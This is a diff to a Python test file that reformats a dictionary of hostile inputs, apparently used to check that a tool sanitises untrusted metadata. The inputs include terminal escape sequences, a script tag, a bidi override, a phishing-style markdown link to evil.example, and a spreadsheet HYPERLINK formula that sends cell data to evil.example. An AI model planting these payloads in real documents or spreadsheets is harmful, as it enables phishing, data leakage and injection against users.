@@ -323,9 +323,11 @@ def test_a_source_text_that_is_not_a_regular_file_is_refused(k: Path, make: str)
 
 HOSTILE_SOURCE = {
     'title = "Document A"': 'title = "Document \\u001b[31mA\\u009b2J <script>alert(1)</script> \\u202e"',
-    'publisher = "Test publisher"': ('publisher = "Test \\u001b]0;TITLE\\u0007publisher"\n'
-                                     'url = "https://ok.example/>) [Verify your account](https://evil.example/login) <x"'),
-    'description = "A test document."': 'description = "=HYPERLINK(\\"http://evil.example/?\\"&A1,\\"click\\") <img src=x>"',
+    'publisher = "Test publisher"': (
+        'publisher = "Test \\u001b]0;TITLE\\u0007publisher"\n'
+        'url = "https://ok.example/>) [Verify your account](https://evil.example/login) <x"'),
+    'description = "A test document."':
+        'description = "=HYPERLINK(\\"http://evil.example/?\\"&A1,\\"click\\") <img src=x>"',
 }
 RAW_CONTROLS = [chr(c) for c in (*range(0x00, 0x09), *range(0x0b, 0x20), *range(0x7f, 0xa0))] + \
     ["\u061c", "\u200e", "\u200f", *map(chr, range(0x202a, 0x202f)), *map(chr, range(0x2066, 0x206a))]
